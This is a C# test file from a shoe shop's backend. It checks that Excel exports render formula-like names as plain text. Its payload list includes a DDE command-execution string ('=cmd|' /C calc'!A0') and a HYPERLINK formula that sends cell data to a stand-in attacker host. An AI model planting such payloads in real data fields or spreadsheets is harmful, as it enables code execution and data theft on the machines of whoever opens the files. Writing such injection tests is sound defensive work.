using System.Globalization;
using System.IO.Compression;
using System.Xml.Linq;
using GulluShoes.Documents.Excel;
using GulluShoes.Functions.Hosting.OpenApi;
using GulluShoes.StoreTests.Doors;

namespace GulluShoes.StoreTests.Attacks;

/// <summary>Formula injection: a name that begins like a formula must be a name in the sheet that somebody opens.</summary>
[Collection(ShopCollection.Name)]
public sealed class FormulaTests(AttackedShop attacked) : IClassFixture<AttackedShop>
{
    private static readonly XNamespace Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    private static readonly string[] Formulas =
        ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example?\"&A1)", "＝1+1", "=1\u0000\u0001", "]]><f>1</f>", "<f>1</f>"];

    [Fact]
    public void Every_sheet_is_written_by_the_one_writer_that_writes_text_as_text() => Assert.Equal(
        // WriteTariffAnswer writes numbers only, into the file as Trendyol made it.
        ["ExportChanges", "ExportCostSheet", "ExportCustomer", "ExportPayouts", "ExportProducts", "ExportProfits", "ExportTariffGaps", "WriteTariffAnswer"],
        AttackDoor.All.Where(door => door.Code.GetCustomAttributes(typeof(AnswersBytesAttribute), false).Cast<AnswersBytesAttribute>().Any(answer => answer.ContentTypes.Any(type => type == SheetWriter.ContentType || type.Contains("csv", StringComparison.Ordinal))))
            .Select(door => door.Name).Order(StringComparer.Ordinal));

    [Theory]
    [InlineData("api/products/sheet")]
    [InlineData("api/changes/sheet?from=2020-01-01")]
    [InlineData("api/costs/sheet?which=all")]
    [InlineData("api/money/profits/sheet?from=2026-01-01&to=2027-12-31&by=line")]
    [InlineData("api/money/payouts/sheet?from=2026-01-01&to=2027-12-31")]
    [InlineData("api/money/tariff-gaps/sheet?from=2026-06-01&to=2027-05-31")]
    [InlineData("api/privacy/export")]
    public async Task Names_that_begin_like_formulas_are_text_in_every_sheet(string path)
    {
        for (var number = 0; number < Formulas.Length; number++)
        {
            await NameAsync(number, Formulas[number].Replace("\0", "", StringComparison.Ordinal));
        }

        var body = path.StartsWith("api/privacy", StringComparison.Ordinal) ? $$"""{"orderNumber":"{{await attacked.Shop.Truth.ScalarAsync<string>("select order_number from order_created order by package_id limit 1")}}"}""" : null;
        using var answer = await attacked.SendAsync(new Attack(path, body is null ? HttpMethod.Get : HttpMethod.Post, path, null!) { Body = body });
        Assert.True(answer.IsSuccessStatusCode, await answer.Content.ReadAsStringAsync());
        using var zip = new ZipArchive(await answer.Content.ReadAsStreamAsync());
        var sheets = zip.Entries.Where(entry => entry.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal)).Select(Read).ToList();

        Assert.All(sheets, sheet => Assert.Empty(sheet.Descendants(Main + "f")));
        var texts = sheets.SelectMany(sheet => sheet.Descendants(Main + "c")).Where(cell => (string?)cell.Attribute("t") is not null).ToList();
        Assert.All(texts, cell => Assert.Equal("inlineStr", (string?)cell.Attribute("t")));
        Assert.All(sheets.SelectMany(sheet => sheet.Descendants(Main + "v")), value => Assert.True(decimal.TryParse(value.Value, CultureInfo.InvariantCulture, out _)));
        Assert.Contains(texts, cell => cell.Value.Contains("=cmd|' /C calc'!A0", StringComparison.Ordinal));
        Assert.Contains(texts, cell => cell.Value.Contains("@SUM(A1)", StringComparison.Ordinal));
    }

    /// <summary>Gives a formula as name to something in every table that a sheet is written from.</summary>
    private async Task NameAsync(int number, string formula)
    {
        await ExecuteAsync($"update listings set title = $1 where barcode = (select barcode from listings order by barcode offset {number} limit 1)", formula);
        await ExecuteAsync($"update variants set model = $1 where barcode = (select barcode from variants where model is not null order by barcode offset {number} limit 1)", formula);
        await ExecuteAsync("update people set name = $1 where user_name = 'worker'", formula);
        await ExecuteAsync($"update order_created set {(number == 0 ? "customer_name" : "ship_name")} = $1 where {number} in (0, 3)", formula);
        var line = $"(select distinct on (l.barcode) l.package_id, l.line_id, o.order_number, l.barcode from order_lines l join orders o using (package_id) join variants v on v.barcode = l.barcode order by l.barcode, 1, 2 offset {number} limit 1) l";
        await ExecuteAsync(
            $"""
            insert into line_profits (package_id, line_id, order_number, day, stage, barcode, model, quantity, kept, revenue, discount, commission, cost, labour, packaging, cargo, fees, correction, missing, estimated, package_version, made_at)
            select l.package_id, l.line_id, l.order_number, date '2026-11-25', 'Created', l.barcode, $1, 1, 1, 100, 0, -20, -40, 0, 0, 0, 0, 0, 0, 0, 1, now() from {line}
            on conflict (package_id, line_id) do update set model = excluded.model
            """,
            formula);
        await ExecuteAsync($"update order_lines set model = $1 from {line} where order_lines.package_id = l.package_id and order_lines.line_id = l.line_id", formula);
        // Charged and paid, so that it stands among the payments and among what was charged without a tariff.
        await ExecuteAsync(
            $"""
            insert into finance_rows (list, id, type, text, description, transacted_at, debt, credit, commission, revenue, payment_order_id, paid_at, barcode, order_number, package_id, line_package_id, line_id, seen_at, changed_at)
            select 'Settlements', '{number}' || pair, 'Sale', $1, $1, '2026-11-25', 0, 80, 20, 80, 77, '2026-11-25', l.barcode, l.order_number, l.package_id, l.package_id, l.line_id, now(), now() from {line}
            join order_lines o using (package_id, line_id) cross join generate_series(1, o.quantity) pair on conflict do nothing
            """,
            formula);
    }

    private static XDocument Read(ZipArchiveEntry entry)
    {
        using var part = entry.Open();
        return XDocument.Load(part, LoadOptions.PreserveWhitespace);
    }

    private async Task ExecuteAsync(string sql, string formula)
    {
        await using var command = attacked.Shop.Database.CreateCommand(sql);
        command.Parameters.AddWithValue(formula);
        await command.ExecuteNonQueryAsync();
    }
}
